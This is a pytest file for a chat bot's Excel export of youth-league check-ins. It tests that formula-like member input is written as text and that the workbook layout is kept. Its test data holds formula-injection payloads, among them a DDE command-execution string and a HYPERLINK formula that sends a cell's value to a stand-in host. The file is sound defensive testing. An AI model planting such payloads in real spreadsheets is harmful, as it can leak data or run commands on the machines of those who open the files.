"""导出: what members typed reaches the workbook as text, never as a formula; the layout a secretary
sees (sheets, widths, frozen header, the assessment form's title, borders and wrapping) stays put."""
import datetime as dt
import io

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from conftest import SHANGHAI, message
from handlers.core.router import dispatch

GROUP = dict(platform="telegram", chat_id="-100", chat_type="group", chat_title="城东街道团工委")
INJECTIONS = ['=HYPERLINK("http://example.invalid/?q="&A1,"点此领取")', "=cmd|' /C calc'!A0", "+1+2", "-3+4",
              "@SUM(1,2)"]


def in_group(ctx, text, user, name, admin=False):
    replies = dispatch(ctx, message(text, user=user, user_name=name, chat_admin=admin, **GROUP))
    assert len(replies) == 1
    return replies[0]


def export(ctx):
    reply = in_group(ctx, "导出 2026-11", "9", "书记", admin=True)
    return openpyxl.load_workbook(io.BytesIO(reply.attachment.data))


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_check_in_that_looks_like_a_formula_is_written_as_text(ctx, text):
    in_group(ctx, f"打卡 {text}", "1", "张三")
    wb = export(ctx)
    cell = wb["打卡明细"]["C2"]
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix  # stays text when edited too
    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert any(text in (c.value or "") for row in wb["工作开展情况表"].iter_rows() for c in row)


@pytest.mark.parametrize("name", ["=1+1", "\t=1+1", "\r=1+1", "-2", "@x", "+x"])
def test_a_member_name_that_looks_like_a_formula_is_written_as_text_on_every_sheet(ctx, name):
    in_group(ctx, "打卡 组织青年大学习第12期学习", "1", name)
    wb = export(ctx)
    for sheet, coordinate in (("打卡明细", "B2"), ("成员汇总", "A2")):
        cell = wb[sheet][coordinate]
        # openpyxl leaves OOXML's escape of a control character (\r → _x000D_) in inline strings; Excel reads it
        assert unescape(cell.value) == name and cell.data_type == "s" and cell.quotePrefix, sheet
    assert not [c for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_ordinary_text_carries_no_quote_prefix_and_numbers_stay_numbers(ctx):
    in_group(ctx, "打卡 开展志愿服务活动，参与30人，完成率80%", "1", "张三")
    row = [c for c in export(ctx)["打卡明细"][2]]
    assert row[0].value == dt.datetime(2026, 11, 23) and row[0].number_format == "yyyy-mm-dd"
    assert row[2].value == "开展志愿服务活动，参与30人，完成率80%" and not row[2].quotePrefix
    assert (row[3].value, row[4].value, row[7].value) == (80, 30, 0)


def test_the_layout_a_reader_sees(ctx):
    in_group(ctx, "打卡 组织青年大学习第12期学习", "1", "张三")
    in_group(ctx, "打卡 整理旧文件", "2", "李四")  # unlinked: goes under 附
    wb = export(ctx)
    assert wb.sheetnames == ["打卡明细", "成员汇总", "工作开展情况表"]
    for name, widths in (("打卡明细", (12, 12, 50, 10, 8, 50, 12, 9, 17, 10, 6)),
                         ("成员汇总", (14, 16, 12, 11, 10, 10, 11, 11, 10, 10, 11, 12))):
        ws = wb[name]
        assert ws.freeze_panes == "A2"
        assert all(c.font.b for c in ws[1]) and [c.value for c in ws[1]][:2] in (["日期", "成员"], ["成员", "账号"])
        assert _widths(ws, len(widths)) == widths
    form = wb["工作开展情况表"]
    assert _widths(form, 3) == (8, 24, 90)
    assert [str(r) for r in form.merged_cells.ranges] == ["A1:C1"]
    title = form["A1"]
    assert title.value == "2026年11月共青团工作开展情况表" and title.font.b and title.font.sz == 14
    assert title.alignment.horizontal == "center"
    assert [(c.value, c.font.b, c.border.left.style, c.alignment.horizontal) for c in form[3]] == [
        (v, True, "thin", "center") for v in ("序号", "考核项目", "工作开展情况")]
    for row in form.iter_rows(min_row=4, max_row=8):
        assert all(c.border.left.style == "thin" and c.alignment.wrap_text and c.alignment.vertical == "top"
                   for c in row)
    assert form["A9"].value is None and form["A10"].value == "附" and form["C10"].alignment.wrap_text


def _widths(ws, n):
    """Column widths as typed in Excel (a file may store them with the cell padding, 12 → 12.71)."""
    out = []
    for col in range(1, n + 1):
        letter = openpyxl.utils.get_column_letter(col)
        dim = next((d for d in ws.column_dimensions.values() if d.min and d.min <= col <= d.max), None)
        width = dim.width if dim else ws.column_dimensions[letter].width
        out.append(int(width))
    return tuple(out)


@pytest.fixture(autouse=True)
def _monday(clock):
    clock.now = dt.datetime(2026, 11, 23, 9, 0, tzinfo=SHANGHAI)
